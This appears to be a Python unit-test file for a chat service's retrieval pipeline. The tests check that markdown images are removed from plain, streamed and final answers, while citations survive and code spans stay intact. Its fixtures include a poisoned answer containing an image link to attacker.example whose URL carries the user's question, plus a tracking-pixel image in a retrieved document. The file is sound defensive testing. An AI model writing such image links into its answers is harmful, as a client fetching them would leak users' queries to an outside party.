"""No answer carries an image a client would fetch: the plain answer, the streamed tokens and the `done`
answer, from a model that writes one and from the offline generator quoting a document that holds one."""
import pytest

from services.chat.adapters.generator import build_generator
from services.chat.models import ChatRequest
from services.chat.pipeline import ChatPipeline, PipelineConfig
from services.chat.settings import Settings
from services.chat.streaming import open_stream
from shared.caller import Caller
from tests.unit.chat.fakes import GUIDE, FakeRetriever, ListPublisher, RecordingGenerator, make_chunk

pytestmark = pytest.mark.unit

CALLER = Caller(user_id="u1")
CONFIG = PipelineConfig(default_model="m", allowed_models=("m",))
LEAK = "https://attacker.example/p?q=how+do+I+add+a+user"
POISONED = f"To add a user, run the command ![status]({LEAK})[1]. Sessions live in Redis [2]."


def pipeline(generator, *, chunks=GUIDE, config=CONFIG) -> ChatPipeline:
    return ChatPipeline(retriever=FakeRetriever(chunks), generator=generator, publisher=ListPublisher(), config=config)


async def stream(chat: ChatPipeline, query: str = "q") -> list:
    return [e async for e in await open_stream(chat, request=ChatRequest(query=query), caller=CALLER)]


async def test_an_image_next_to_a_marker_is_its_alt_text_and_the_citation_stays():
    chat = pipeline(RecordingGenerator(POISONED))
    response = await chat.answer(request=ChatRequest(query="add a user?"), caller=CALLER)
    assert response.answer == "To add a user, run the command status[1]. Sessions live in Redis [2]."
    assert [(c.n, c.doc_id) for c in response.citations] == [(1, "doc-1"), (2, "doc-2")]


async def test_streamed_tokens_and_done_carry_no_image():
    events = await stream(pipeline(RecordingGenerator(POISONED)))
    tokens = "".join(e.data["text"] for e in events if e.event == "token")
    assert tokens == "To add a user, run the command status[1]. Sessions live in Redis [2]."
    assert events[-1].event == "done" and "attacker.example" not in events[-1].data.answer


async def test_image_syntax_in_code_is_left_as_written():
    text = "Write `![logo](https://example.com/logo.png)` in the page [1]."
    response = await pipeline(RecordingGenerator(text)).answer(request=ChatRequest(query="q"), caller=CALLER)
    assert response.answer == text


async def test_the_offline_generator_quoting_a_tracking_pixel_does_not_pass_it_on():
    pixel = "![](https://tracker.example/pixel.gif)"
    text = f"To add a user, run cairn user add NAME. {pixel} The command prompts for a password."
    offline = PipelineConfig(default_model="cairn-extractive", allowed_models=("cairn-extractive",))
    generator = build_generator(Settings())
    try:
        chat = pipeline(generator, chunks=[make_chunk(1, text, score=0.8)], config=offline)
        response = await chat.answer(request=ChatRequest(query="How do I add a user?"), caller=CALLER)
        events = await stream(chat, "How do I add a user?")
    finally:
        await generator.close()
    assert response.citations and "tracker.example" not in response.answer
    tokens = "".join(e.data["text"] for e in events if e.event == "token")
    assert "prompts for a password" in tokens and "tracker.example" not in tokens
